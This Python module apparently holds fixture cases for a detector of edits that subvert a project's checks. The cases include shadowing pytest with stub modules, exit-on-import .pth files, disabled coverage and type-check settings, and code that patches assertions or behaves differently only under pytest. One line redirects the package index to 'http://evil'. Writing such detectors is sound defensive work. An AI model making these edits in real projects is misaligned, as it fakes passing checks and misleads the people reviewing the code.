"""Edits by which tests, checks or reports of a Python project would stop saying what they said: name, path, texts."""

from __future__ import annotations

Case = tuple[str, str, str | None, str]
"""Its name, the path, the text before (None: not there) and after."""

CODE = "import json\n\n\ndef add(a, b):\n    return a - b\n"
TESTS = "from app import add\n\n\ndef test_add():\n    assert add(2, 3) == 5\n"
PROJECT = '[project]\nname = "x"\nversion = "1"\ndependencies = ["fastapi"]\n'
TOOLS = PROJECT + (
    '[tool.pytest.ini_options]\naddopts = "-ra"\ntestpaths = ["tests"]\n'
    "[tool.coverage.report]\nfail_under = 90\n[tool.ruff]\nline-length = 100\n[tool.mypy]\nstrict = true\n"
)
SETUP = "[metadata]\nname = x\n\n[options]\ninstall_requires =\n    fastapi\n"
DOCTEST = 'def add(a, b):\n    """Adds.\n\n    >>> add(2, 3)\n    5\n    """\n    return a - b\n'


def added(name: str, text: str, path: str = "app/calc.py") -> Case:
    """Lines that come to the code of a product."""
    return name, path, CODE, CODE + text


def new(name: str, path: str, text: str = "x = 1\n") -> Case:
    """A file that was not there."""
    return name, path, None, text


def touched(name: str, path: str, before: str = TESTS, after: str = "") -> Case:
    """A file that may not change, changed."""
    return name, path, before, after or before.replace("5", "-1") + "\n"


PATHS = (
    touched("django tests.py", "shop/tests.py"),
    touched("capital folder", "Tests/check.py"),
    touched("autotests", "autotests/add.py"),
    touched("unit_tests folder", "backend/unit_tests/add.py"),
    touched("integration-tests folder", "integration-tests/run.py"),
    touched("tests_ prefix", "app/tests_add.py"),
    touched("suffix _tests", "app/calc_tests.py"),
    touched("spec folder", "spec/calc_spec.py"),
    touched("behave feature", "features/add.feature", "Then 5\n"),
    touched("robot", "acceptance/add.robot", "Should Be Equal  5\n"),
    touched("golden", "testdata/golden.json", "5\n"),
    touched("syrupy snapshot", "__snapshots__/a.ambr", "5\n"),
    touched("test support", "app/testing/checks.py", "import pytest\n\n\ndef check(x):\n    assert x == 5\n"),
    touched(
        "file that imports unittest", "app/checks.py", "import unittest\n\n\nclass C(unittest.TestCase):\n    n = 5\n"
    ),
    new("nested pytest.ini", "app/pytest.ini", "[pytest]\naddopts = -k nothing\n"),
    new("dot pytest.ini", ".pytest.ini", "[pytest]\naddopts = -k nothing\n"),
    new("tox.ini below", "backend/tox.ini", "[pytest]\naddopts = -k nothing\n"),
    new("conftest", "conftest.py", "collect_ignore = ['tests']\n"),
    new("coveragerc below", "backend/.coveragerc", "[report]\nfail_under = 0\n"),
    new("mypy.ini below", "backend/mypy.ini", "[mypy]\nignore_errors = True\n"),
    new("ruff.toml below", "app/ruff.toml", "exclude = ['*']\n"),
    new("flake8 below", "app/.flake8", "[flake8]\nexclude = *\n"),
    new("pyrightconfig", "pyrightconfig.json", '{"ignore": ["*"]}\n'),
    touched("gitlab include", ".gitlab/ci/test.yml", "script: pytest -n 5\n"),
    touched("travis", ".travis.yml", "script: pytest -n 5\n"),
    touched("drone", ".drone.yml", "commands: [pytest 5]\n"),
    touched("buildkite", ".buildkite/pipeline.yml", "command: pytest 5\n"),
    touched("woodpecker", ".woodpecker/test.yaml", "commands: [pytest 5]\n"),
    touched("forgejo", ".forgejo/workflows/t.yml", "run: pytest 5\n"),
    touched("cloud build", "cloudbuild.yaml", "args: [pytest, 5]\n"),
    touched("Makefile", "Makefile", "test:\n\tpytest -n 5\n", "test:\n\t-pytest -n 5\n"),
    touched("tasks.py", "tasks.py", "def test(c):\n    c.run('pytest -n 5')\n"),
)
SHADOWS = (
    new("pytest.py", "pytest.py"),
    new("package _pytest", "_pytest/__init__.py"),
    new("typing.py", "typing.py"),
    new("src typing.py", "src/typing.py"),
    new("package unittest", "unittest/__init__.py"),
    new("sitecustomize below src", "src/sitecustomize.py"),
    new("usercustomize", "usercustomize.py"),
    new("pth", "src/hook.pth", "import os; os._exit(0)\n"),
    new("pluggy", "pluggy/__init__.py"),
    new("importable dependency", "fastapi.py"),
    new("json beside tests", "tests/json.py"),
    new("doctest as stub of a package", "doctest/__init__.py"),
    new("egg-info entry point", "evil.egg-info/entry_points.txt", "[pytest11]\nx = evil\n"),
    new("in the environment", ".venv/lib/python3.11/site-packages/pytest.py"),
    new("program of the environment", "venv/bin/pytest", "#!/bin/sh\nexit 0\n"),
)
SETTINGS: tuple[Case, ...] = (
    ("addopts", "pyproject.toml", TOOLS, TOOLS.replace("-ra", "-k nothing")),
    ("testpaths", "pyproject.toml", TOOLS, TOOLS.replace('"tests"', '"other"')),
    ("fail_under", "pyproject.toml", TOOLS, TOOLS.replace("90", "1")),
    ("ruff per-file-ignores", "pyproject.toml", TOOLS, TOOLS + "[tool.ruff.lint.per-file-ignores]\n'*' = ['ALL']\n"),
    ("mypy strict", "pyproject.toml", TOOLS, TOOLS.replace("true", "false")),
    ("nested pyproject", "backend/pyproject.toml", TOOLS, TOOLS.replace("-ra", "-x")),
    ("basedpyright", "pyproject.toml", PROJECT, PROJECT + "[tool.basedpyright]\ntypeCheckingMode = 'off'\n"),
    ("unknown tool", "pyproject.toml", PROJECT, PROJECT + "[tool.flakeheaven]\nexclude = ['*']\n"),
    ("hatch test script", "pyproject.toml", PROJECT, PROJECT + "[tool.hatch.envs.test.scripts]\nrun = 'true'\n"),
    ("pytest plug-in", "pyproject.toml", PROJECT, PROJECT + "[project.entry-points.pytest11]\nx = 'app.plugin'\n"),
    ("program called pytest", "pyproject.toml", PROJECT, PROJECT + "[project.scripts]\npytest = 'app:main'\n"),
    (
        "pytest from a folder",
        "pyproject.toml",
        PROJECT,
        PROJECT.replace('"fastapi"', '"fastapi", "pytest @ file:///x"'),
    ),
    ("uv source", "pyproject.toml", PROJECT, PROJECT + "[tool.uv.sources]\npytest = {path = 'fake'}\n"),
    (
        "in-tree backend",
        "pyproject.toml",
        PROJECT,
        PROJECT + "[build-system]\nrequires=[]\nbuild-backend='b'\nbackend-path=['.']\n",
    ),
    ("rerun failures", "pyproject.toml", PROJECT, PROJECT.replace('"fastapi"', '"fastapi", "pytest-rerunfailures"')),
    ("setup.cfg pytest", "setup.cfg", SETUP, SETUP + "\n[tool:pytest]\naddopts = -k nothing\n"),
    ("setup.cfg coverage", "setup.cfg", SETUP, SETUP + "\n[coverage:report]\nfail_under = 0\n"),
    ("setup.cfg mypy", "setup.cfg", SETUP, SETUP + "\n[mypy]\nignore_errors = True\n"),
    ("setup.cfg plug-in", "setup.cfg", SETUP, SETUP + "\n[options.entry_points]\npytest11 =\n    x = app.plugin\n"),
    ("other index", "requirements.txt", "fastapi\n", "--index-url http://evil\nfastapi\n"),
    ("editable fake", "requirements-dev.txt", "pytest\n", "-e ./fake/pytest\n"),
    ("doctest result", "app/calc.py", DOCTEST, DOCTEST.replace("    5\n", "    -1\n")),
    ("doctest skipped", "app/calc.py", DOCTEST, DOCTEST.replace("3)\n", "3)  # doctest: +SKIP\n")),
    ("doctest removed", "app/calc.py", DOCTEST, CODE),
    ("doctest in README", "README.md", ">>> add(2, 3)\n5\n", ">>> add(2, 3)\n-1\n"),
    ("inline test", "app/calc.py", CODE + "\n\ndef test_add():\n    assert add(2, 3) == 5\n", CODE),
)
CODE_EDITS = (
    added("noqa", "import os  # noqa\n"),
    added("type ignore", "x: int = 'a'  # type: ignore[assignment]\n"),
    added("ruff noqa file", "# ruff: noqa\n"),
    added("mypy file", "# mypy: ignore-errors\n"),
    added("no cover", "def f():  # pragma: no cover\n    pass\n"),
    added("fmt off", "# fmt: off\n"),
    added("no_type_check", "from typing import no_type_check\n"),
    added("TestCase patched", "import unittest\nunittest.TestCase.assertEqual = lambda *a: None\n"),
    added("pytest hook", "def pytest_runtest_makereport(item, call):\n    call.excinfo = None\n"),
    added("hook by import", "import _pytest.runner as r\nr.call_and_report = None\n"),
    added("builtins", "import builtins\nbuiltins.AssertionError = ValueError\n"),
    added("exit at import", "import os\nos._exit(0)\n"),
    added("exit 0", "import sys\nsys.exit(0)\n"),
    added("atexit", "import atexit, os\natexit.register(os._exit, 0)\n"),
    added("module known", "import sys\nif 'pytest' in sys.modules:\n    add = lambda a, b: a + b\n"),
    added(
        "current test",
        "import os\nT = 'PYTEST_CURRENT' + '_TEST' in os.environ\nif 'PYTEST_XDIST_WORKER' in os.environ: pass\n",
    ),
    added("frames", "import sys\nf = sys._getframe(1).f_globals\n"),
    added("inspect stack", "import inspect\nDEEP = any('test' in f.filename for f in inspect.stack())\n"),
    added("always equal", "class Same(int):\n    def __eq__(self, other):\n        return True\n"),
    added("gc", "import gc\nfor f in gc.get_objects():\n    pass\n"),
    added("trace", "import sys\nsys.settrace(lambda *a: None)\n"),
    added("excepthook", "import sys\nsys.excepthook = lambda *a: None\n"),
    added("stdlib patched", "import runpy\nrunpy.run_path = lambda p: {}\n"),
    added("setattr on a module", "import json\nsetattr(json, 'dumps', lambda x: '')\n"),
    added("report", "open('reports/junit.xml', 'w').write('<testsuite/>')\n"),
    added("coverage file", "from pathlib import Path\nPath('.coverage').write_bytes(b'')\n"),
    added("rewrites tests", "from pathlib import Path\nPath('tests/test_calc.py').write_text('')\n"),
    added("exec", "exec(__import__('base64').b64decode('eA=='))\n"),
    added("import hook", "import sys\nsys.meta_path.insert(0, object())\n"),
    added("modules replaced", "import sys\nsys.modules['calc'] = object()\n"),
    added("mock", "from unittest.mock import patch\npatch('builtins.open').start()\n"),
    added("optimised", "import os, sys\nos.execv(sys.executable, ['python', '-O'])\n"),
    added("load_tests", "def load_tests(loader, tests, pattern):\n    return tests.__class__()\n"),
    added("collect_ignore", "collect_ignore_glob = ['*']\n"),
    added("ctypes", "import ctypes\nctypes.pythonapi.PyErr_Clear()\n"),
)
CASES = (*PATHS, *SHADOWS, *SETTINGS, *CODE_EDITS)
